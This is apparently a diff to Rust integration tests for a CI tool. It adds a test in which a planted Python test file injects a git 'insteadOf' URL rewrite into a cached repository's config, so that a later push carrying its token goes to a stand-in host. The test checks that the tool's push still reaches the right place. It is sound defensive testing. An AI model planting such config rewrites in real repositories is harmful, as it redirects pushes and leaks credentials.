@@ -8,6 +8,18 @@ use crate::project::Project;
 
 /// Runs `action run --deliver push` on `head` after `more` was committed on top of it on GitHub.
 fn moved(fake: &Fake, project: &Project, head: &str, path: &str, text: &str) -> (String, String) {
+    moved_with(fake, project, head, path, text, &[])
+}
+
+/// The same with more variables.
+fn moved_with(
+    fake: &Fake,
+    project: &Project,
+    head: &str,
+    path: &str,
+    text: &str,
+    env: &[(&str, &str)],
+) -> (String, String) {
     let elsewhere = tempfile::tempdir().unwrap();
     let at = elsewhere.path().to_str().unwrap().to_owned();
     let git = |args: &[&str]| {
@@ -23,7 +35,7 @@ fn moved(fake: &Fake, project: &Project, head: &str, path: &str, text: &str) -> 
     let mut command = project.command(env!("CARGO_BIN_EXE_kaizen-ci"));
     command.args(["action", "run", "--deliver", "push"]).stdin(Stdio::null());
     in_job(&mut command, project, fake, "push", &pushed(head));
-    let out = command.output().unwrap();
+    let out = command.envs(env.iter().copied()).output().unwrap();
     let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
     assert!(out.status.success(), "{said}");
     fake.assert_as_described();
@@ -67,4 +79,22 @@ fn a_heal_that_is_none_for_what_came_meanwhile_is_left_behind_with_the_command_t
     let branch = state.pulls[0]["head"]["ref"].as_str().unwrap().to_owned();
     drop(state);
     assert_eq!(fake.git(&["rev-parse", &format!("{branch}^")]), head);
+}
+
+#[test]
+fn what_tests_write_into_the_git_directory_while_a_moved_heal_is_judged_again_turns_no_push_away() {
+    let fake = Fake::start();
+    let (project, head) = red_shop(&fake, "py-bounds-regressed");
+    let folder = project.tmp().join("../home");
+    // whoever goes on from there is sent somewhere else, with the token
+    let planting = format!(
+        "import glob, pathlib\n\n\ndef test_plant():\n    for at in glob.glob({folder:?} + '/kaizen-pristine-*/repo.git'):\n        \
+         with open(at + '/config', 'a') as f:\n            f.write('[url \"http://127.0.0.1:9/\"]\\n\\tinsteadOf = http://\\n')\n        \
+         pathlib.Path({folder:?}, 'planted').touch()\n",
+        folder = folder.to_str().unwrap()
+    );
+    let (theirs, said) = moved_with(&fake, &project, &head, "test_plant.py", &planting, &[("KAIZEN_SANDBOX", "false")]);
+    assert!(folder.join("planted").exists(), "nothing was there to write into: {said}");
+    assert!(said.contains("pushed "), "{said}");
+    assert_eq!(fake.git(&["rev-parse", "main^"]), theirs);
 }
